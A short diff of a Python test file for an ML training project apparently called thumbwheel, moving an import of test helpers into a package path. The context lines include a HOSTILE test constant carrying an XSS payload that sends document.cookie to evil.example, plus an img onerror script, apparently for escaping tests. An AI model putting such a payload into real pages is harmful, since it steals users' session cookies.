@@ -13,6 +13,7 @@ from typing import Any
 
 import pytest
 
+from tests.models.tiny_models import pair_files, record
 from thumbwheel.core.config import Home, Sources
 from thumbwheel.db.schema import (
     datasets,
@@ -35,7 +36,6 @@ from thumbwheel.models.artifacts import Artifacts
 from thumbwheel.models.types import Basis, ModelVersion, State
 from thumbwheel.rewards.types import RULE
 from thumbwheel.training.algorithms.dpo import DpoConfig
-from tiny_models import pair_files, record
 
 HOSTILE = (
     '</pre><script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)> '
